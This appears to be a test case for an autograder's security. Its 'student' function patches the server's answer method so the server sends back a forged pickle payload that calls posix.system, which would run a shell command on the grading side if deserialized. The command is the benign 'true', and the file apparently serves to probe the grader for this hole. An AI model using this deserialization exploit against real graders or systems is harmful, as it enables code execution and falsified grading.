# tries: a pickle as the bytes of an array of objects
# control: 0
import json
import struct

from autograder.core.student.server import Server


def frame(header):
    text = json.dumps(header).encode()
    return struct.pack("<I", len(text)) + text


def result(value, sizes):
    """Return the answer to one call, as the server gives it."""
    return {"reply": "answer", "value": {"$l": [{"$d": [[{"$s": "value"}, value]]}]}, "sizes": sizes}


def forged(self, header, buffers):
    self.connection.sendall(
        frame(result({"$a": 0, "dtype": "O", "shape": [1], "kind": "array"}, [31]))
        + b"cposix\nsystem\n(S\x27true\x27\ntR.".ljust(31)
    )


def double(x):
    Server._answer = forged
    return 6
